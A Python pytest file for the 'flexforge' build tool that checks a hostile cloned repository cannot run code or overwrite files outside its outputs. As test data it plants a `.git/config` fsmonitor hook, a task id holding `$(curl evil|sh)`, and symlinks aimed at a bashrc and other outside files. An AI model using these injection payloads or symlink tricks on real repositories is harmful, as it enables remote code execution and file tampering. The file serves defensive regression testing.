"""A repository is untrusted input (docs/security.md): what a stranger's clone can commit under
`.flexforge/`, as links or as state, never runs code, writes outside its outputs or is trusted.

Each test is named after the behaviour it guards; the hostile-clone ones build a real repository
that force-adds state, `git clone` it, and run flexforge there as another machine would.
"""

from __future__ import annotations

import hashlib
import json
import os
import shutil
import subprocess
import time
from pathlib import Path

import pytest

from tests.helpers import Project, png
from tests.support.emulator import serve_builds
from tests.support.spawn import run_flexforge, spawn_flexforge

GIT_ENV = {
    "GIT_AUTHOR_NAME": "Mallory",
    "GIT_AUTHOR_EMAIL": "m@example.invalid",
    "GIT_COMMITTER_NAME": "Mallory",
    "GIT_COMMITTER_EMAIL": "m@example.invalid",
}
TWO_ASSETS = """
    version: 1
    defaults: {width: 64, height: 64}
    assets:
      a: {prompt: "first", seed: 1}
      b: {prompt: "second", seed: 2, references: [a]}
"""


def git(cwd: Path, *args: str) -> str:
    done = subprocess.run(
        ["git", *args], cwd=cwd, capture_output=True, text=True, env={**os.environ, **GIT_ENV}, check=True
    )
    return done.stdout


def another_machine(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> Path:
    """Switch this test to a second user's home: its own cache and machine key."""
    home = tmp_path / "victim-home"
    home.mkdir()
    monkeypatch.setenv("HOME", str(home))
    monkeypatch.setenv("XDG_CACHE_HOME", str(home / ".cache"))
    monkeypatch.setenv("XDG_DATA_HOME", str(home / ".local/share"))
    return home


def commit_everything(project: Project) -> None:
    git(project.root, "init", "-q", "-b", "main")
    git(project.root, "add", "-A")
    git(project.root, "add", "-f", ".flexforge")  # the `*` gitignore does not stop this
    git(project.root, "commit", "-q", "-m", "state included")


def clone(project: Project, tmp_path: Path) -> Project:
    target = tmp_path / "clone"
    git(tmp_path, "clone", "-q", str(project.root), str(target))
    return Project(target)


def flexforge(project: Project, *args: str) -> subprocess.CompletedProcess[str]:
    """A real process, the way CI runs it (so the no-op memo path is exercised too)."""
    return run_flexforge("-C", str(project.root), *args, timeout=120)


def test_committed_caches_never_decide_what_is_written(
    project: Project, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The run-code attack: a committed validated-manifest cache saying `out: .git/config`, a
    committed no-op memo and key records made the keyless `build --frozen` write attacker bytes
    over `.git/config`. Derived caches now live only in the user's cache folder."""
    project.manifest(TWO_ASSETS)
    assert project.build().exit_code == 0
    hook = b'[core]\n\tfsmonitor = "touch pwned"\n'
    # What the old layout read: a validated manifest naming .git/config, and a memo.
    project.write(
        ".flexforge/cache/flexforge.yaml.json",
        json.dumps({"fingerprint": "x" * 64, "assets": [{"id": "a", "out": ".git/config"}]}),
    )
    project.write(".flexforge/cache/flexforge.yaml.noop.json", json.dumps({"v": 3, "files": []}))
    (project.root / "assets/a.png").unlink()  # so that the victim's build restores something
    commit_everything(project)
    another_machine(monkeypatch, tmp_path)
    victim = clone(project, tmp_path)
    config = (victim.root / ".git/config").read_bytes()
    result = flexforge(victim, "build", "--frozen", "--provider", "draft")
    assert "Traceback" not in result.stderr
    assert (victim.root / ".git/config").read_bytes() == config
    assert hook not in (victim.root / ".git/config").read_bytes()
    assert not (victim.root / "pwned").exists()
    # The restore put the asset's own declared output back, from a digest-checked object.
    assert result.returncode == 0, result.stderr
    restored = hashlib.sha256((victim.root / "assets/a.png").read_bytes()).hexdigest()
    assert restored == victim.lock()["assets"]["a"]["sha256"]


def test_records_from_another_machine_are_ignored_with_a_warning(
    project: Project, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Key records, seeds and journal entries committed by someone else are not this machine's:
    they are never used, and the user is told, naming the file."""
    project.manifest("""
        version: 1
        defaults: {width: 64, height: 64}
        assets:
          a: {prompt: "first"}
    """)
    assert project.build().exit_code == 0
    seed = project.lock()["assets"]["a"]["seed"]
    (project.root / "assets/a.png").unlink()
    commit_everything(project)
    another_machine(monkeypatch, tmp_path)
    victim = clone(project, tmp_path)
    result = victim.run("plan", "--provider", "draft")
    assert result.exit_code == 0
    assert "not written by flexforge on this machine" in result.stderr
    assert ".flexforge/keys/" in result.stderr
    # The object itself is digest-checked, so the lock's own record still restores it for free.
    assert victim.plan() == {"a": "restore"}
    assert victim.build().exit_code == 0
    assert victim.lock()["assets"]["a"]["seed"] == seed


def test_a_linked_ledger_and_a_hostile_task_id_never_touch_files_outside(
    project: Project, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """`.flexforge/ledger.jsonl -> ~/.bashrc` plus a journal entry whose task id holds `$(...)`
    appended a shell command to the user's start-up file."""
    bashrc = tmp_path / "bashrc"
    bashrc.write_text("# the user's own\n")
    project.manifest("""
        version: 1
        defaults: {width: 64, height: 64}
        assets:
          a: {prompt: "first", seed: 1}
    """)
    state = project.root / ".flexforge"
    (state / "journal").mkdir(parents=True)
    (state / "ledger.jsonl").symlink_to(bashrc)
    entry = {
        "asset": "a",
        "key": "0" * 64,
        "provider": "emulator",
        "task_id": "$(curl evil|sh)",
        "polling_url": "https://api.bfl.ai/v1/get_result?id=x",
        "submitted_at": 1.0,
    }
    (state / "journal" / f"{'0' * 64}.json").write_text(json.dumps(entry))
    commit_everything(project)
    victim = clone(project, tmp_path)
    with serve_builds(monkeypatch) as emu:
        result = victim.run("build", "--provider", "emulator")
        assert emu.stats()["submissions"] == 1
    assert bashrc.read_text() == "# the user's own\n"
    assert result.exit_code == 0, result.stderr
    assert "spend not recorded" in result.stderr and "ledger.jsonl" in result.stderr
    assert (victim.root / "assets/a.png").is_file()


@pytest.mark.parametrize("link", ["objects", "keys", "journal", "build.lock", "seeds.json", ".gitignore"])
def test_no_link_inside_the_state_folder_is_followed(project: Project, tmp_path: Path, link: str) -> None:
    """Links inside `.flexforge/` (objects, keys, journal, build.lock, seeds, its .gitignore)
    sent flexforge's writes anywhere on the disk; a linked build.lock truncated its target."""
    outside = tmp_path / "outside"
    outside.mkdir()
    victim_file = outside / "precious"
    victim_file.write_text("keep me")
    project.manifest("""
        version: 1
        defaults: {width: 64, height: 64}
        assets:
          a: {prompt: "first"}
    """)
    state = project.root / ".flexforge"
    state.mkdir()
    target = outside if link in ("objects", "keys", "journal") else victim_file
    (state / link).symlink_to(target)
    result = project.run("build", "--provider", "draft")
    assert "Traceback" not in result.stderr and "internal error" not in result.stderr
    assert victim_file.read_text() == "keep me"
    assert sorted(p.name for p in outside.iterdir()) == ["precious"]
    if link in ("objects", "keys", "build.lock"):
        assert result.exit_code == 1
        assert f".flexforge/{link}" in result.stderr and "link" in result.stderr


def test_cached_validation_rechecks_reference_confinement(
    project: Project, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Once the validated-manifest cache was warm, a reference folder swapped for a link out of
    the root was still "valid" and the outside file was uploaded to the API."""
    png(project.root / "refs/logo.png")
    project.manifest("""
        version: 1
        defaults: {width: 64, height: 64}
        assets:
          a: {prompt: "with the logo", seed: 1, references: [refs/logo.png]}
    """)
    assert project.run("validate").exit_code == 0  # the cache is warm now
    secret_dir = tmp_path / "private"
    png(secret_dir / "logo.png", color=(1, 2, 3))
    shutil.rmtree(project.root / "refs")
    (project.root / "refs").symlink_to(secret_dir, target_is_directory=True)
    with serve_builds(monkeypatch) as emu:
        result = project.run("build", "--provider", "emulator")
        assert emu.stats()["submissions"] == 0
    assert result.exit_code == 1
    assert "flexforge.yaml:4:" in result.stderr and "leaves the project root" in result.stderr


def test_a_restore_refuses_an_object_that_is_not_the_declared_image(
    project: Project, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A committed lock and object can name any bytes for an asset: a restore writes only bytes
    whose digest matches and whose header is the declared format and size."""
    project.manifest(TWO_ASSETS)
    assert project.build().exit_code == 0
    lock = project.lock()
    planted = png(tmp_path / "planted.png", size=(32, 32), color=(9, 9, 9)).read_bytes()
    sha = hashlib.sha256(planted).hexdigest()
    (project.root / ".flexforge/objects" / sha[:2]).mkdir(parents=True, exist_ok=True)
    (project.root / ".flexforge/objects" / sha[:2] / sha).write_bytes(planted)
    lock["assets"]["a"].update(sha256=sha, size=len(planted))
    (project.root / "flexforge.lock").write_text(json.dumps(lock, indent=2))
    (project.root / "assets/a.png").unlink()
    commit_everything(project)
    another_machine(monkeypatch, tmp_path)
    victim = clone(project, tmp_path)
    result = victim.build()
    assert "not the declared image" in result.stderr
    assert (victim.root / "assets/a.png").read_bytes() != planted


def test_a_checkout_during_a_build_keeps_the_other_branchs_lock(
    project: Project, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A `git checkout` during a build got the other branch's lock overwritten with this one's."""
    project.manifest(TWO_ASSETS)
    with serve_builds(monkeypatch, latency=1.0) as emu:
        proc = spawn_flexforge("-C", str(project.root), "build", "--provider", "emulator")
        deadline = time.monotonic() + 30
        while emu.stats()["submissions"] == 0 and time.monotonic() < deadline:
            time.sleep(0.02)  # until the build has read its lock and is waiting on the API
        other = '{"_generated": "the other branch", "assets": {}, "version": 1}\n'
        (project.root / "flexforge.lock").write_text(other)
        _, stderr = proc.communicate(timeout=60)
    assert proc.returncode == 1, stderr
    assert "changed on disk" in stderr
    assert (project.root / "flexforge.lock").read_text() == other


def test_a_failed_rename_keeps_its_entry_out_of_the_lock(
    project: Project, monkeypatch: pytest.MonkeyPatch
) -> None:
    """One failed output rename inside a coalesced lock write left lock entries whose files did
    not exist, each reported "generated"."""
    from flexforge import outputs

    project.manifest("""
        version: 1
        defaults: {width: 64, height: 64}
        assets:
          a: {prompt: "first", seed: 1}
          b: {prompt: "second", seed: 2}
    """)
    real_install = outputs.install

    def failing_install(staged: Path, path: Path, *, durable: bool = True) -> None:
        if path.name == "b.png":
            raise OSError(28, "No space left on device", str(path))
        real_install(staged, path, durable=durable)

    monkeypatch.setattr(outputs, "install", failing_install)
    result = project.build()
    assert result.exit_code == 1
    assert "b: not recorded: cannot write: No space left on device" in result.stderr
    assert set(project.lock()["assets"]) == {"a"}
    assert not (project.root / "assets/b.png").exists()
    assert not list((project.root / "assets").glob(".*.tmp"))
    monkeypatch.setattr(outputs, "install", real_install)
    assert project.plan() == {"a": "none", "b": "restore"}  # paid once, kept in the cache


def test_a_same_size_rewrite_that_keeps_the_mtime_is_seen(project: Project) -> None:
    """A same-size rewrite that kept the mtime was invisible to plan, build and accept (and to
    the no-op memo): stamps now hold the ctime, which no program can set back."""
    project.manifest("""
        version: 1
        defaults: {width: 64, height: 64}
        assets:
          a: {prompt: "first", seed: 1}
    """)
    assert project.build().exit_code == 0
    time.sleep(0.05)
    assert flexforge(project, "build", "--provider", "draft").returncode == 0  # records the memo
    out = project.root / "assets/a.png"
    before = out.stat()
    data = bytearray(out.read_bytes())
    data[40] ^= 0xFF
    with out.open("r+b") as f:  # in place: same inode, same size
        f.write(data)
    os.utime(out, ns=(before.st_atime_ns, before.st_mtime_ns))
    assert out.stat().st_mtime_ns == before.st_mtime_ns
    assert project.plan() == {"a": "drifted"}
    result = flexforge(project, "plan", "--provider", "draft")
    assert "1 drifted" in result.stdout


def test_stale_temp_files_are_removed_only_when_flexforge_named_them(project: Project) -> None:
    project.manifest("""
        version: 1
        defaults: {width: 64, height: 64}
        assets:
          a: {prompt: "one", seed: 1}
    """)
    assert project.build().exit_code == 0
    mine = project.write("assets/.a.png.backup.tmp", "the user's own")
    project.edit("one", "two")
    assert project.build().exit_code == 0
    assert mine.read_text() == "the user's own"


def test_a_committed_intent_record_never_has_a_file_overwritten_as_an_interrupted_restore(
    project: Project, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """`.flexforge/writing.json` names outputs a killed build was writing in place, which the next
    plan restores over without asking. A clone that commits one (sealed on the attacker's own
    machine) naming an agency's file and a hand-edited output gets neither overwritten."""
    from flexforge.store import Store

    project.manifest(TWO_ASSETS)
    assert project.build().exit_code == 0
    project.edit("  b: {", "  logo: {prompt: 'logo', seed: 3}\n  b: {")
    agency = png(project.root / "assets/logo.png", color=(1, 2, 3)).read_bytes()
    edited = png(project.root / "assets/a.png", color=(9, 9, 9)).read_bytes()
    Store(project.root / ".flexforge").set_writing({"assets/logo.png": None, "assets/a.png": None})
    commit_everything(project)
    another_machine(monkeypatch, tmp_path)
    victim = clone(project, tmp_path)
    plan = victim.plan()
    assert (plan["a"], plan["logo"]) == ("drifted", "conflict"), plan
    result = victim.build()
    assert "Traceback" not in result.stderr
    assert (victim.root / "assets/logo.png").read_bytes() == agency
    assert (victim.root / "assets/a.png").read_bytes() == edited
